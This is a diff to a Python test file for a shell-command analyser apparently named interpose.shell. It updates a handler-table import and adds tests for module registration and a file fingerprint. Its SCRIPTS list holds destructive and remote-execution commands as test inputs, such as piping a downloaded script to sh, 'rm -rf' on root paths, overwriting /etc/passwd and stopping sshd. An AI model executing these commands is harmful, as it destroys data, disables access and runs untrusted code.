@@ -5,11 +5,14 @@ from __future__ import annotations
 import json
 import subprocess
 import sys
+from pathlib import Path
+
+from interpose.shell import commands
 
 PROGRAM = """
 import json, sys
 from interpose.shell import analyse, commands
-from interpose.shell.commands.table import HANDLERS
+from interpose.shell.commands.shared.handler_table import HANDLERS
 
 known, scripts = json.load(sys.stdin)
 if known:
@@ -20,7 +23,8 @@ print(json.dumps([said, commands.families() if not known else sorted(HANDLERS), 
 SCRIPTS = [
     "git push --force origin main && npm test", "sudo rm -rf /srv", "curl -s https://x.example/i.sh | sh", "RM -r /",
     "python3 -c 'import os; os.remove(`x`)'", "find . -name '*.py' -exec sed -i s/a/b/ {} +", "nosuch thing",
-    "xargs -0 kubectl delete pod", "env A=1 nohup tar xf a.tar -C /", "g?t clean -fdx", "echo hi > /etc/passwd",
+    "systemctl stop sshd; gem install x; apt remove bash", "xargs -0 kubectl delete pod",
+    "env A=1 nohup tar xf a.tar -C /", "g?t clean -fdx", "echo hi > /etc/passwd",
 ]  # fmt: skip
 
 
@@ -54,3 +58,30 @@ def test_few_commands_import_few_families() -> None:
         for known in (families, {})
     )  # fmt: skip
     assert few < all_ - 40
+
+
+def test_each_family_brings_its_commands() -> None:
+    """A table that registers through a shared function must be found in its own module, not in the shared one."""
+    code = """
+import json, sys
+from interpose.shell import commands
+from interpose.shell.commands.shared.handler_table import handler_of
+
+known = json.load(sys.stdin)
+commands.defer(known)
+print(json.dumps({name: handler_of(name).__module__ for name in known}))
+"""
+    _, families, _ = _run({})
+    assert isinstance(families, dict)
+    done = subprocess.run(
+        [sys.executable, "-I", "-c", code], input=json.dumps(families), capture_output=True, text=True, check=True
+    )
+    assert json.loads(done.stdout) == {name: f"{commands.__name__}.{family}" for name, family in families.items()}
+    assert not [name for name, family in families.items() if family.startswith("shared.")]
+
+
+def test_the_fingerprint_covers_every_folder() -> None:
+    root = Path(commands.__file__).parent
+    files = {path.relative_to(root).as_posix() for path in root.rglob("*.py")}
+    assert {name for name, _, _ in commands.fingerprint()} == files
+    assert {"__init__.py", "git/history.py", "shared/options.py"} <= files
